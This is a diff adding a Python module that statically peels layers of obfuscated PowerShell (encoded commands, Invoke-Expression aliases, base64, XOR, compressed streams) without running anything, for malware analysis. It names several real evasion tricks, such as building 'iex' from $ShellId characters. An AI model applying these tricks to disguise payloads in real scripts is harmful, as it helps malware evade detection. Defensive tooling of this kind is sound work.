@@ -1,0 +1,1498 @@
+"""Static PowerShell deobfuscation: peel layers without executing anything.
+
+Each step either unwraps a launcher (``powershell -enc``, ``cmd /c``, ``set x=...``, stdin,
+clipboard) or finds an Invoke-Expression-like call (``iex``, ``&``/``.`` with a computed name such as
+``$ShellId[1]+$ShellId[13]+'x'``, ``| iex``) whose argument a tiny constant folder can compute from
+literals alone (strings, numbers, arrays, ``+ -f -join -split -replace -bxor``, casts,
+``[Convert]::FromBase64String``, Deflate/GZip streams...). That string is the next layer. What the
+folder does not know is unknown, and unknown stays as written: no call is ever made, no PowerShell
+runs. Time, depth and sizes are bounded and a cut is reported in ``truncated``/``reason``.
+
+>>> r = deobfuscate("powershell -nop -enc SQBFAFgAIAAoACcAVwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQAnACkA")
+>>> [layer.technique for layer in r.layers], r.final
+(['encodedcommand', 'iex'], 'Write-Host hi')
+"""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import re
+import time
+import zlib
+from dataclasses import dataclass, field
+from typing import Any
+
+from .tokenize import Token, string_value, tokenize, variable_name, word_value
+
+__all__ = ["Layer", "Result", "deobfuscate", "extract_iocs"]
+
+MAX_BYTES = 4 * 1024 * 1024  # input (and any decoded layer) beyond this is cut and reported
+MAX_LAYERS = 64
+MAX_VALUE = 8 * 1024 * 1024  # the largest string/array the folder builds (caps '*', ranges, inflation)
+MAX_DEPTH = 120  # parser recursion: ~60 nested parentheses, well inside Python's stack
+
+
+@dataclass
+class Layer:
+    """One peeled layer: the technique(s) that produced it and the text after it."""
+
+    technique: str
+    text: str
+
+    def to_dict(self) -> dict[str, str]:
+        return {"technique": self.technique, "text": self.text}
+
+
+@dataclass
+class Result:
+    """What ``deobfuscate`` recovered; ``final`` is the innermost text."""
+
+    layers: list[Layer] = field(default_factory=list)
+    final: str = ""
+    iocs: dict[str, list[str]] = field(default_factory=dict)
+    techniques: set[str] = field(default_factory=set)
+    truncated: bool = False
+    reason: str | None = None
+    secure_string: bool = False
+
+    def to_dict(self) -> dict[str, Any]:
+        return {
+            "layers": [layer.to_dict() for layer in self.layers],
+            "final": self.final,
+            "iocs": self.iocs,
+            "techniques": sorted(self.techniques),
+            "truncated": self.truncated,
+            "reason": self.reason,
+            "secure_string": self.secure_string,
+        }
+
+
+class _Stop(Exception):
+    """Raised inside the folder when the time budget or a size cap is hit."""
+
+
+class _Ctx:
+    __slots__ = ("deadline", "ticks", "reason", "max_bytes")
+
+    def __init__(self, budget_ms: float, max_bytes: int) -> None:
+        self.deadline = time.perf_counter() + budget_ms / 1000.0
+        self.ticks = 0
+        self.reason: str | None = None
+        self.max_bytes = max_bytes
+
+    def tick(self, n: int = 1) -> None:
+        self.ticks += n
+        if self.ticks >= 256:
+            self.ticks = 0
+            if time.perf_counter() > self.deadline:
+                self.reason = self.reason or "time budget"  # the first cause is the telling one
+                raise _Stop
+
+    def size(self, n: int) -> None:
+        if n > MAX_VALUE or n > self.max_bytes * 2:
+            self.reason = "size cap"
+            raise _Stop
+
+
+class _Unknown:
+    __slots__ = ()
+
+    def __repr__(self) -> str:
+        return "UNKNOWN"
+
+
+UNKNOWN = _Unknown()
+
+# Values of automatic variables on a default Windows PowerShell 5.1, which obfuscators index into.
+_AUTO_VARS: dict[str, Any] = {
+    "shellid": "Microsoft.PowerShell",
+    "pshome": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+    "env:comspec": "C:\\WINDOWS\\system32\\cmd.exe",
+    "env:public": "C:\\Users\\Public",
+    "env:windir": "C:\\WINDOWS",
+    "env:systemroot": "C:\\WINDOWS",
+    "verbosepreference": "SilentlyContinue",
+    "debugpreference": "SilentlyContinue",
+    "warningpreference": "Continue",
+    "erroractionpreference": "Continue",
+    "progresspreference": "Continue",
+    "ofs": " ",
+    "true": True,
+    "false": False,
+    "null": None,
+}
+_IEX_NAMES = frozenset({"iex", "invoke-expression", "microsoft.powershell.utility\\invoke-expression"})
+_ENCODINGS = {
+    "unicode": "utf-16-le", "utf8": "utf-8", "ascii": "ascii", "default": "cp1252", "utf32": "utf-32-le",
+    "bigendianunicode": "utf-16-be", "utf7": "utf-7",
+}
+
+
+class _Bytes(bytes):
+    """A byte[] value (kept apart from str so that joins and -bxor behave as in PowerShell)."""
+
+
+@dataclass
+class _Obj:
+    """An object the folder knows: a type, an encoding, a stream, a script block, a variable."""
+
+    kind: str
+    data: Any = None
+    extra: Any = None
+
+
+_AUTO_VARS["executioncontext"] = _Obj("executioncontext")
+
+
+def _to_str(v: Any) -> str:
+    if v is None or v is UNKNOWN:
+        return ""
+    if isinstance(v, str):
+        return v
+    if isinstance(v, bool):
+        return "True" if v else "False"
+    if isinstance(v, bytes):
+        return " ".join(str(b) for b in v)
+    if isinstance(v, list):
+        return " ".join(_to_str(x) for x in v)
+    if isinstance(v, float) and v.is_integer():
+        return str(int(v))
+    if isinstance(v, _Obj):
+        return str(v.data) if v.kind in ("scriptblock", "type") else ""
+    return str(v)
+
+
+def _to_int(v: Any) -> int | None:
+    if isinstance(v, bool):
+        return int(v)
+    if isinstance(v, int):
+        return v
+    if isinstance(v, float):
+        return int(round(v))
+    if isinstance(v, str):
+        s = v.strip()
+        try:
+            return int(s, 16) if s.lower().startswith("0x") else int(s)
+        except ValueError:
+            return None
+    return None
+
+
+def _as_list(v: Any) -> list[Any]:
+    if isinstance(v, list):
+        return v
+    if isinstance(v, bytes):
+        return list(v)
+    return [v]
+
+
+def _known(v: Any) -> bool:
+    if v is UNKNOWN:
+        return False
+    if isinstance(v, list):
+        return all(_known(x) for x in v)
+    return True
+
+
+_DOTNET_FMT = re.compile(r"\{\{|\}\}|\{(\d+)(?:\s*,\s*(-?\d+))?(?::([^}]*))?\}")
+
+
+def _format(fmt: str, args: list[Any]) -> Any:
+    def sub(m: re.Match[str]) -> str:
+        g = m.group()
+        if g == "{{":
+            return "{"
+        if g == "}}":
+            return "}"
+        i = int(m.group(1))
+        if i >= len(args):
+            raise IndexError
+        v = args[i]
+        spec = (m.group(3) or "").strip()
+        if spec[:1] in ("x", "X") and isinstance(v, int):
+            s = format(v, spec[0] + (spec[1:] or ""))
+        else:
+            s = _to_str(v)
+        if m.group(2):
+            w = int(m.group(2))
+            s = s.ljust(-w) if w < 0 else s.rjust(w)
+        return s
+
+    try:
+        return _DOTNET_FMT.sub(sub, fmt)
+    except (IndexError, ValueError):
+        return UNKNOWN
+
+
+_REGEX_RISKY = re.compile(r"\)[*+?{]|\\[1-9kg]|\(\?[<=!]|[*+]\S?[*+]")
+
+
+def _safe_regex(pat: str, ignore_case: bool) -> re.Pattern[str] | None:
+    """Compile a sample's regex only if it cannot backtrack catastrophically (no nested quantifiers)."""
+    if len(pat) > 200 or _REGEX_RISKY.search(pat):
+        return None
+    try:
+        return re.compile(pat, re.I if ignore_case else 0)
+    except (re.error, OverflowError, RecursionError):
+        return None
+
+
+def _replacement(s: str) -> str:
+    s = s.replace("\\", "\\\\")
+    return re.sub(r"\$(\$|\d+|\{(\w+)\})", lambda m: "$" if m.group(1) == "$" else f"\\g<{m.group(2) or m.group(1)}>", s)
+
+
+def _is_reverse_index(idx: Any) -> bool:
+    return isinstance(idx, list) and len(idx) > 1 and all(isinstance(i, int) for i in idx[:3]) and idx[0] == -1 and idx[1] == -2
+
+
+_OPEN = frozenset({"lparen", "lbrace", "subexpr", "arrayexpr", "hashtable", "lbracket"})
+_CLOSE = frozenset({"rparen", "rbrace", "rbracket"})
+
+
+class _Folder:
+    """A constant folder over a token list: computes pure expressions, UNKNOWN for anything else."""
+
+    def __init__(self, toks: list[Token], env: dict[str, Any], ctx: _Ctx, techniques: set[str]) -> None:
+        self.t = toks
+        self.n = len(toks)
+        self.env = env
+        self.ctx = ctx
+        self.tech = techniques
+        self.depth = 0
+        self._close: list[int] | None = None
+
+    # -- helpers ---------------------------------------------------------------------------------
+    def kind(self, i: int) -> str:
+        return self.t[i].kind if i < self.n else "eof"
+
+    def text(self, i: int) -> str:
+        return self.t[i].text if i < self.n else ""
+
+    def op(self, i: int) -> str:
+        """The lower-cased operator at i, with a dash of any kind normalised to '-'."""
+        if i >= self.n or self.t[i].kind != "operator":
+            return ""
+        s = self.t[i].text.lower()
+        return "-" + s[1:] if s[:1] in "\u2013\u2014\u2015" else s
+
+    def adjacent(self, i: int) -> bool:
+        """True when token i starts right where token i-1 ends (no space: a method call, an index)."""
+        return 0 < i < self.n and self.t[i - 1].start + len(self.t[i - 1].text) == self.t[i].start
+
+    def _enter(self) -> None:
+        self.depth += 1
+        if self.depth > MAX_DEPTH:
+            self.ctx.reason = "depth cap"
+            raise _Stop
+        self.ctx.tick()
+
+    # -- grammar (lowest precedence first) -------------------------------------------------------
+    def pipeline(self, i: int) -> tuple[Any, int]:
+        v, i = self.expr(i)
+        while self.kind(i) == "pipe":
+            name = word_value(self.t[i + 1]).lower() if self.kind(i + 1) == "word" else self.text(i + 1)
+            if name in ("%", "foreach", "foreach-object") and self.kind(i + 2) == "lbrace":
+                v, i = self.foreach(v, i + 2)
+            else:
+                return v, i
+        return v, i
+
+    def foreach(self, v: Any, i: int) -> tuple[Any, int]:
+        end = self.match_close(i)
+        out: list[Any] = []
+        items = _as_list(v) if _known(v) else [UNKNOWN]
+        saved = self.env.get("_")
+        for item in items:
+            self.ctx.tick()
+            self.env["_"] = item
+            r, j = self.expr(i + 1)
+            if j != end or not _known(r):
+                out = [UNKNOWN]
+                break
+            out.append(r)
+        self.env["_"] = saved
+        return (out if len(out) != 1 else out[0]), end + 1
+
+    def match_close(self, i: int) -> int:
+        """Index of the bracket closing the one at i (or n); one linear pass builds the whole table."""
+        if self._close is None:
+            close = [self.n] * self.n
+            stack: list[int] = []
+            for j, tok in enumerate(self.t):
+                k = tok.kind
+                if k in _OPEN:
+                    stack.append(j)
+                elif k in _CLOSE and stack:
+                    close[stack.pop()] = j
+            self._close = close
+        return self._close[i] if i < self.n else self.n
+
+    _CMP = frozenset({
+        "-join", "-split", "-csplit", "-isplit", "-replace", "-creplace", "-ireplace", "-eq", "-ne",
+        "-ceq", "-cne", "-ieq", "-ine", "-like", "-notlike", "-match", "-notmatch",
+    })
+
+    def expr(self, i: int) -> tuple[Any, int]:
+        self._enter()
+        try:
+            v, i = self.bitwise(i)
+            while (o := self.op(i)) in self._CMP:
+                r, i = self.bitwise(i + 1)
+                v = self.binary(o, v, r)
+            return v, i
+        finally:
+            self.depth -= 1
+
+    def bitwise(self, i: int) -> tuple[Any, int]:
+        v, i = self.additive(i)
+        while (o := self.op(i)) in ("-bxor", "-band", "-bor"):
+            r, i = self.additive(i + 1)
+            v = self.binary(o, v, r)
+        return v, i
+
+    def additive(self, i: int) -> tuple[Any, int]:
+        v, i = self.multiplicative(i)
+        while (o := self.op(i)) in ("+", "-"):
+            r, i = self.multiplicative(i + 1)
+            v = self.binary(o, v, r)
+        return v, i
+
+    def multiplicative(self, i: int) -> tuple[Any, int]:
+        v, i = self.fmt(i)
+        while (o := self.op(i)) in ("*", "/", "%"):
+            r, i = self.fmt(i + 1)
+            v = self.binary(o, v, r)
+        return v, i
+
+    def fmt(self, i: int) -> tuple[Any, int]:
+        v, i = self.range_(i)
+        while self.op(i) == "-f":
+            r, i = self.range_(i + 1)
+            v = self.binary("-f", v, r)
+        return v, i
+
+    def range_(self, i: int) -> tuple[Any, int]:
+        v, i = self.comma(i)
+        if self.op(i) == "..":
+            r, i = self.comma(i + 1)
+            a, b = _to_int(v), _to_int(r)
+            if a is None or b is None:
+                return UNKNOWN, i
+            self.ctx.size(abs(b - a))
+            v = list(range(a, b + 1)) if a <= b else list(range(a, b - 1, -1))
+        return v, i
+
+    def comma(self, i: int) -> tuple[Any, int]:
+        if self.kind(i) == "comma":  # unary comma: a one-element array
+            v, i = self.unary(i + 1)
+            return [v], i
+        v, i = self.unary(i)
+        if self.kind(i) != "comma":
+            return v, i
+        items = [v]
+        while self.kind(i) == "comma":
+            self.ctx.tick()
+            v, i = self.unary(i + 1)
+            items.append(v)
+        return items, i
+
+    def unary(self, i: int) -> tuple[Any, int]:
+        self._enter()
+        try:
+            o = self.op(i)
+            if o in ("-join", "-split"):
+                v, j = self.unary(i + 1)
+                return self.binary(o, v, "" if o == "-join" else None), j
+            if o == "-":
+                v, j = self.unary(i + 1)
+                return (-v if isinstance(v, int | float) and not isinstance(v, bool) else UNKNOWN), j
+            if o in ("!", "-not"):
+                v, j = self.unary(i + 1)
+                return UNKNOWN, j
+            if self.kind(i) == "type" and self.op(i + 1) != "::" and self.kind(i + 1) not in ("eof", "rparen", "semicolon", "newline", "pipe", "comma", "operator", "dot", "rbrace"):
+                v, j = self.unary(i + 1)
+                return self.cast(self.typename(i), v), j
+            return self.postfix(i)
+        finally:
+            self.depth -= 1
+
+    def typename(self, i: int) -> str:
+        s = word_value(self.t[i]).strip()[1:-1].strip().lower().replace(" ", "")
+        return s[7:] if s.startswith("system.") else s
+
+    def postfix(self, i: int) -> tuple[Any, int]:
+        v, i = self.primary(i)
+        while i < self.n:
+            self.ctx.tick()
+            k = self.kind(i)
+            if k == "lbracket" and self.adjacent(i):
+                idx, j = self.pipeline(i + 1)
+                if self.kind(j) != "rbracket":
+                    return UNKNOWN, j
+                v, i = self.index(v, idx), j + 1
+            elif k == "dot" or self.op(i) == "::":
+                static = k != "dot"
+                j = i + 1
+                nk = self.kind(j)
+                if nk == "word":
+                    name, j = word_value(self.t[j]), j + 1
+                    if "." in name.strip("."):  # `A.B.C(x)` is one word token: walk the chain
+                        *heads, name = name.split(".")
+                        for h in heads:
+                            v = self.member(v, h.lower(), None, static)
+                            static = False
+                elif nk == "string":
+                    name, j = string_value(self.t[j]), j + 1
+                elif nk in ("lparen", "variable"):
+                    nv, j = self.primary(j)
+                    name = _to_str(nv) if isinstance(nv, str) else ""
+                    if name:
+                        self.tech.add("member-string")
+                else:
+                    return UNKNOWN, j
+                if not name:
+                    return UNKNOWN, j
+                args: list[Any] | None = None
+                if self.kind(j) == "lparen" and self.adjacent(j):
+                    args, j = self.arglist(j)
+                v, i = self.member(v, name.lower(), args, static), j
+            else:
+                break
+        return v, i
+
+    def arglist(self, i: int) -> tuple[list[Any], int]:
+        end = self.match_close(i)
+        if end == i + 1:
+            return [], end + 1
+        v, j = self.pipeline(i + 1)
+        if j != end:
+            return [UNKNOWN], end + 1
+        if isinstance(v, list) and self.kind(i + 1) != "comma" and self._top_comma(i + 1, end):
+            return v, end + 1
+        return [v], end + 1
+
+    def _top_comma(self, i: int, end: int) -> bool:
+        depth = 0
+        for j in range(i, end):
+            k = self.t[j].kind
+            if k in ("lparen", "lbrace", "subexpr", "arrayexpr", "hashtable", "lbracket"):
+                depth += 1
+            elif k in ("rparen", "rbrace", "rbracket"):
+                depth -= 1
+            elif k == "comma" and depth == 0:
+                return True
+        return False
+
+    def primary(self, i: int) -> tuple[Any, int]:
+        k = self.kind(i)
+        if k == "string":
+            tok = self.t[i]
+            s = string_value(tok)
+            if tok.text[:1] not in "'\u2018\u2019\u201a\u201b" and "$" in s:
+                s2 = self.interpolate(s)
+                return s2, i + 1
+            if "`" in tok.text and tok.text[:1] not in "'\u2018\u2019\u201a\u201b" and _IDLE_BACKTICK.search(tok.text):
+                self.tech.add("backticks")  # `t and `n are escapes; `W is there to break signatures
+            return s, i + 1
+        if k == "herestring":
+            s = string_value(self.t[i])
+            if self.t[i].text[1:2] not in "'\u2018\u2019\u201a\u201b" and "$" in s:
+                return self.interpolate(s), i + 1
+            return s, i + 1
+        if k == "number":
+            return self.number(self.t[i].text), i + 1
+        if k == "variable":
+            name = variable_name(self.t[i])
+            if "`" in self.t[i].text:
+                self.tech.add("backticks")
+            if name in self.env:
+                return self.env[name], i + 1
+            if name.startswith(("global:", "script:", "local:")) and name.split(":", 1)[1] in self.env:
+                return self.env[name.split(":", 1)[1]], i + 1
+            return UNKNOWN, i + 1
+        if k in ("lparen", "subexpr", "arrayexpr"):
+            end = self.match_close(i)
+            if self.kind(i + 1) == "word":
+                v, j = self.command(i + 1, end)
+            elif end == i + 1:
+                v, j = ([] if k == "arrayexpr" else None), end
+            else:
+                v, j = self.pipeline(i + 1)
+                if k != "lparen":  # statements in $( ) / @( ): the value of the last one
+                    while self.kind(j) in ("semicolon", "newline") and j < end:
+                        if self.kind(j + 1) in ("rparen",):
+                            j += 1
+                            break
+                        v, j = self.pipeline(j + 1)
+            if j != end:
+                v = UNKNOWN
+            if k == "arrayexpr" and _known(v) and not isinstance(v, list):
+                v = list(v) if isinstance(v, bytes) else [v]
+            return v, end + 1
+        if k == "type":
+            return _Obj("type", self.typename(i)), i + 1
+        if k == "word":
+            return self.command(i, self.n)
+        return UNKNOWN, i + 1
+
+    def number(self, s: str) -> Any:
+        t = s.lower().rstrip("ld")
+        mult = 1
+        for suf, m in (("kb", 1 << 10), ("mb", 1 << 20), ("gb", 1 << 30), ("tb", 1 << 40), ("pb", 1 << 50)):
+            if t.endswith(suf):
+                t, mult = t[:-2], m
+        try:
+            if t.startswith("0x"):
+                return int(t, 16) * mult
+            return int(t) * mult if re.fullmatch(r"\d+", t) else float(t) * mult
+        except ValueError:
+            return UNKNOWN
+
+    _VAR = re.compile(r"\$(?:\{([^}]+)\}|((?:[A-Za-z_]\w*:)?\w+))")
+
+    def interpolate(self, s: str) -> Any:
+        if "$(" in s:
+            return UNKNOWN
+        unknown = False
+
+        def sub(m: re.Match[str]) -> str:
+            nonlocal unknown
+            name = (m.group(1) or m.group(2)).lower()
+            v = self.env.get(name, UNKNOWN)
+            if v is UNKNOWN or isinstance(v, _Obj):
+                unknown = True
+                return m.group()
+            return _to_str(v)
+
+        out = self._VAR.sub(sub, s)
+        return UNKNOWN if unknown else out
+
+    def command(self, i: int, end: int) -> tuple[Any, int]:
+        """A few pure commands in expression position; anything else is UNKNOWN up to *end*."""
+        name = word_value(self.t[i]).lower()
+        if name in ("new-object",):
+            j = i + 1
+            if self.kind(j) == "parameter" and self.text(j).lower().startswith("-t"):
+                j += 1
+            if self.kind(j) != "word":
+                return UNKNOWN, end
+            tname = word_value(self.t[j]).lower()
+            tname = tname[7:] if tname.startswith("system.") else tname
+            j += 1
+            args: list[Any] = []
+            if self.kind(j) == "parameter" and self.text(j).lower().startswith("-a"):
+                j += 1
+            if j < end and self.kind(j) not in ("rparen", "semicolon", "pipe"):
+                if self.kind(j) == "lparen":
+                    args, j = self.arglist(j)
+                else:
+                    v, j = self.expr(j)
+                    args = v if isinstance(v, list) else [v]
+            return self.construct(tname, args), j
+        if name in ("get-variable", "gv", "variable", "get-item", "gi", "ls", "dir", "gci", "get-childitem", "childitem", "item"):
+            j = i + 1
+            if self.kind(j) == "parameter":
+                j += 1
+            if self.kind(j) in ("string", "word"):
+                pat = string_value(self.t[j]) if self.kind(j) == "string" else word_value(self.t[j])
+                if pat.lower().startswith("variable:"):
+                    pat = pat[9:].lstrip("/\\")
+                hit = _match_variable(pat)
+                if hit is not None:
+                    self.tech.add("iex-alias")
+                    return _Obj("variable", hit[0], hit[1]), j + 1
+            return UNKNOWN, end
+        if name in ("get-clipboard", "gcb") and "clipboard" in self.env:
+            return self.env["clipboard"], i + 1
+        return UNKNOWN, end
+
+    # -- semantics -------------------------------------------------------------------------------
+    def binary(self, o: str, a: Any, b: Any) -> Any:
+        self.ctx.tick()
+        if o == "-join":
+            if not _known(a) or (b is not None and not _known(b)):
+                return UNKNOWN
+            self.tech.add("join")
+            items = a if isinstance(a, list) else list(a) if isinstance(a, bytes) else [a]
+            return _to_str(b).join(_to_str(x) for x in items)
+        if not _known(a) or not _known(b):
+            return UNKNOWN
+        if o == "+":
+            if isinstance(b, _Obj) or isinstance(a, _Obj):
+                return UNKNOWN
+            if isinstance(a, str):
+                self.tech.add("concat")
+                r = a + _to_str(b)
+                self.ctx.size(len(r))
+                return r
+            if isinstance(a, list):
+                return a + _as_list(b)
+            if isinstance(a, int | float) and isinstance(b, int | float):
+                return a + b
+            if isinstance(a, int | float) and isinstance(b, str):
+                n = _to_int(b)
+                return UNKNOWN if n is None else a + n
+            return UNKNOWN
+        if o in ("-", "*", "/", "%"):
+            if o == "*" and isinstance(a, str | list) and isinstance(b, int):
+                self.ctx.size(len(a) * max(b, 0))
+                return a * b
+            x, y = _to_int(a) if isinstance(a, str) else a, _to_int(b) if isinstance(b, str) else b
+            if not isinstance(x, int | float) or not isinstance(y, int | float):
+                return UNKNOWN
+            if o == "-":
+                return x - y
+            if o == "*":
+                return x * y
+            if y == 0:
+                return UNKNOWN
+            return x / y if o == "/" else x % y
+        if o in ("-bxor", "-band", "-bor"):
+            if isinstance(a, list | bytes):
+                return [self.binary(o, x, b) for x in _as_list(a)]
+            x, y = _to_int(a), _to_int(b)
+            if x is None or y is None:
+                return UNKNOWN
+            self.tech.add("bxor" if o == "-bxor" else "bitwise")
+            return x ^ y if o == "-bxor" else x & y if o == "-band" else x | y
+        if o == "-f":
+            if not isinstance(a, str):
+                return UNKNOWN
+            self.tech.add("format")
+            return _format(a, _as_list(b))
+        if o in ("-split", "-csplit", "-isplit"):
+            if b is None:
+                return [x for x in re.split(r"\s+", _to_str(a).strip()) if x] if _to_str(a).strip() else []
+            rx = _safe_regex(_to_str(b), o != "-csplit")
+            if rx is None:
+                return UNKNOWN
+            self.tech.add("split")
+            out: list[Any] = []
+            for s in _as_list(a):
+                out.extend(rx.split(_to_str(s)))
+            self.ctx.size(len(out))
+            return out
+        if o in ("-replace", "-creplace", "-ireplace"):
+            pair = _as_list(b)
+            pat, rep = _to_str(pair[0]), _to_str(pair[1]) if len(pair) > 1 else ""
+            rx = _safe_regex(pat, o != "-creplace")
+            if rx is None:
+                return UNKNOWN
+            self.tech.add("replace")
+            try:
+                if isinstance(a, list):
+                    return [rx.sub(_replacement(rep), _to_str(x)) for x in a]
+                r = rx.sub(_replacement(rep), _to_str(a))
+            except (re.error, IndexError):
+                return UNKNOWN
+            self.ctx.size(len(r))
+            return r
+        if o in ("-eq", "-ieq", "-ceq"):
+            return _to_str(a).lower() == _to_str(b).lower() if o != "-ceq" else _to_str(a) == _to_str(b)
+        return UNKNOWN
+
+    def index(self, v: Any, idx: Any) -> Any:
+        if not _known(v) or not _known(idx):
+            return UNKNOWN
+        if isinstance(v, _Obj) and v.kind == "variable":
+            return UNKNOWN
+        seq = v if isinstance(v, str | list | bytes) else None
+        if seq is None:
+            return UNKNOWN
+
+        def one(k: Any) -> Any:
+            n = _to_int(k)
+            if n is None:
+                return UNKNOWN
+            if -len(seq) <= n < len(seq):
+                return seq[n]
+            return None
+
+        if isinstance(idx, list):
+            if _is_reverse_index(idx):
+                self.tech.add("reverse")
+            self.ctx.size(len(idx))
+            return [one(k) for k in idx]
+        return one(idx)
+
+    def cast(self, t: str, v: Any) -> Any:
+        if not _known(v):
+            return UNKNOWN
+        if t == "char":
+            self.tech.add("char-codes")
+            if isinstance(v, str) and len(v) == 1:
+                return v
+            n = _to_int(v)
+            return chr(n) if n is not None and 0 <= n <= 0x10FFFF else UNKNOWN
+        if t in ("char[]", "char"):
+            self.tech.add("char-codes")
+            if isinstance(v, str):
+                return list(v)
+            return [self.cast("char", x) for x in _as_list(v)]
+        if t == "string":
+            return _to_str(v)
+        if t in ("int", "int32", "int64", "long", "byte", "int16", "uint32", "uint16"):
+            if isinstance(v, str) and len(v) == 1 and not v.isdigit():
+                return ord(v)
+            n = _to_int(v)
+            return UNKNOWN if n is None else n
+        if t in ("byte[]", "int[]"):
+            return [self.cast(t[:-2], x) for x in _as_list(v)]
+        if t in ("string[]", "array", "object[]"):
+            return [_to_str(x) if t == "string[]" else x for x in _as_list(v)]
+        if t in ("io.memorystream",) and isinstance(v, bytes | list):
+            return _Obj("stream", self._bytes(v))
+        if t in ("scriptblock", "management.automation.scriptblock") and isinstance(v, str):
+            return _Obj("scriptblock", v)
+        return UNKNOWN
+
+    def _bytes(self, v: Any) -> bytes | None:
+        if isinstance(v, bytes):
+            return v
+        if isinstance(v, list):
+            out = bytearray()
+            for x in v:
+                n = ord(x) if isinstance(x, str) and len(x) == 1 else _to_int(x)
+                if n is None:
+                    return None
+                out.append(n & 0xFF)
+            return bytes(out)
+        return None
+
+    def construct(self, tname: str, args: list[Any]) -> Any:
+        if not all(_known(a) for a in args):
+            return UNKNOWN
+        if tname in ("io.memorystream",) and args:
+            data = self._bytes(args[0] if not (isinstance(args[0], list) and len(args) == 1 and len(args[0]) == 1 and isinstance(args[0][0], bytes)) else args[0][0])
+            return _Obj("stream", data) if data is not None else UNKNOWN
+        if tname in ("io.compression.deflatestream", "io.compression.gzipstream") and args:
+            src = args[0]
+            if isinstance(src, _Obj) and src.kind == "stream" and src.data is not None:
+                kind = "deflate" if "deflate" in tname else "gzip"
+                return _Obj("stream", self.inflate(src.data, kind))
+            return UNKNOWN
+        if tname in ("io.streamreader",) and args:
+            src = args[0]
+            enc = "utf-8"
+            if len(args) > 1 and isinstance(args[1], _Obj) and args[1].kind == "encoding":
+                enc = args[1].data
+            if isinstance(src, _Obj) and src.kind == "stream" and src.data is not None:
+                return _Obj("reader", src.data, enc)
+            return UNKNOWN
+        if tname in ("text.asciiencoding", "text.utf8encoding", "text.unicodeencoding"):
+            return _Obj("encoding", {"text.asciiencoding": "ascii", "text.utf8encoding": "utf-8"}.get(tname, "utf-16-le"))
+        if tname in ("string",) and args:
+            a0 = args[0]
+            if isinstance(a0, list):
+                return "".join(_to_str(x) for x in a0)
+            return UNKNOWN
+        return UNKNOWN
+
+    def inflate(self, data: bytes, kind: str) -> bytes:
+        self.tech.add(kind)
+        d = zlib.decompressobj(-15 if kind == "deflate" else 31)
+        cap = min(MAX_VALUE, self.ctx.max_bytes)
+        try:
+            out = d.decompress(data, cap + 1)
+        except zlib.error:
+            out = b""
+            try:  # a truncated stream: keep what inflated before the damage
+                d2 = zlib.decompressobj(-15 if kind == "deflate" else 31)
+                for k in range(0, min(len(data), cap), 4096):
+                    out += d2.decompress(data[k:k + 4096], cap + 1 - len(out))
+                    if len(out) > cap:
+                        break
+            except zlib.error:
+                pass
+            self.ctx.reason = self.ctx.reason or f"corrupt {kind} stream"
+        if len(out) > cap:
+            self.ctx.reason = "decompression cap"
+            out = out[:cap]
+        return out
+
+    def member(self, v: Any, name: str, args: list[Any] | None, static: bool) -> Any:
+        self.ctx.tick()
+        if args is not None and not all(_known(a) for a in args):
+            return UNKNOWN
+        if static and isinstance(v, _Obj) and v.kind == "type":
+            return self.static(v.data, name, args)
+        if not _known(v):
+            return UNKNOWN
+        if isinstance(v, _Obj):
+            if v.kind == "encoding" and name == "getstring" and args:
+                data = self._bytes(args[0])
+                if data is None:
+                    return UNKNOWN
+                if len(args) >= 3:
+                    s, n = _to_int(args[1]) or 0, _to_int(args[2]) or 0
+                    data = data[s:s + n]
+                return data.decode(v.data, "replace")
+            if v.kind == "encoding" and name == "getbytes" and args:
+                try:
+                    return _Bytes(_to_str(args[0]).encode(v.data, "replace"))
+                except (LookupError, UnicodeError):
+                    return UNKNOWN
+            if v.kind == "reader" and name == "readtoend" and args == []:
+                return v.data.decode(v.extra, "replace")
+            if v.kind == "executioncontext" and name == "invokecommand" and args is None:
+                return _Obj("invokecommand")
+            if v.kind == "invokecommand" and args and isinstance(args[0], str):
+                if name == "invokescript":
+                    return _Obj("invoke", args[0])
+                if name == "newscriptblock":
+                    return _Obj("scriptblock", args[0])
+            if v.kind == "scriptblock" and name in ("invoke", "invokereturnasis"):
+                return _Obj("invoke", v.data)
+            if v.kind == "variable":
+                if name == "name":
+                    return v.data
+                if name == "value":
+                    return v.extra if v.extra is not None else UNKNOWN
+            if v.kind == "stream" and name == "toarray" and args == []:
+                return _Bytes(v.data)
+            return UNKNOWN
+        if isinstance(v, list) and name in ("name", "value") and v and all(isinstance(x, _Obj) for x in v):
+            return [self.member(x, name, args, static) for x in v]
+        if isinstance(v, str):
+            return self.string_method(v, name, args)
+        if isinstance(v, list | bytes):
+            if name in ("count", "length") and args is None:
+                return len(v)
+        return UNKNOWN
+
+    def string_method(self, s: str, name: str, args: list[Any] | None) -> Any:
+        if args is None:
+            if name == "length":
+                return len(s)
+            return UNKNOWN
+        a = [_to_str(x) if not isinstance(x, int) else x for x in args]
+        if name == "replace" and len(a) == 2:
+            self.tech.add("replace")
+            if a[0] == "":
+                return UNKNOWN
+            r = s.replace(_to_str(a[0]), _to_str(a[1]))
+            self.ctx.size(len(r))
+            return r
+        if name == "tolower" or name == "tolowerinvariant":
+            return s.lower()
+        if name == "toupper" or name == "toupperinvariant":
+            return s.upper()
+        if name == "tostring":
+            return s
+        if name == "trim" and not a:
+            return s.strip()
+        if name in ("trim", "trimstart", "trimend") and a:
+            chars = "".join(_to_str(x) for x in a)
+            return s.strip(chars) if name == "trim" else s.lstrip(chars) if name == "trimstart" else s.rstrip(chars)
+        if name == "trimstart":
+            return s.lstrip()
+        if name == "trimend":
+            return s.rstrip()
+        if name == "tochararray":
+            return list(s)
+        if name == "split":
+            self.tech.add("split")
+            seps = "".join(_to_str(x) for x in args)
+            if not seps:
+                return s.split()
+            return re.split("[" + re.escape(seps) + "]", s)
+        if name == "substring" and a and all(isinstance(x, int) for x in a):
+            start = a[0]
+            return s[start:start + a[1]] if len(a) > 1 else s[start:]
+        if name == "insert" and len(a) == 2 and isinstance(a[0], int):
+            return s[: a[0]] + _to_str(a[1]) + s[a[0]:]
+        if name == "remove" and a and all(isinstance(x, int) for x in a):
+            return s[: a[0]] + (s[a[0] + a[1]:] if len(a) > 1 else "")
+        if name == "invoke":
+            return UNKNOWN
+        return UNKNOWN
+
+    def static(self, t: str, name: str, args: list[Any] | None) -> Any:
+        if t in ("convert",):
+            if name == "frombase64string" and args and isinstance(args[0], str):
+                self.tech.add("base64")
+                return _Bytes(_b64(args[0], self.ctx))
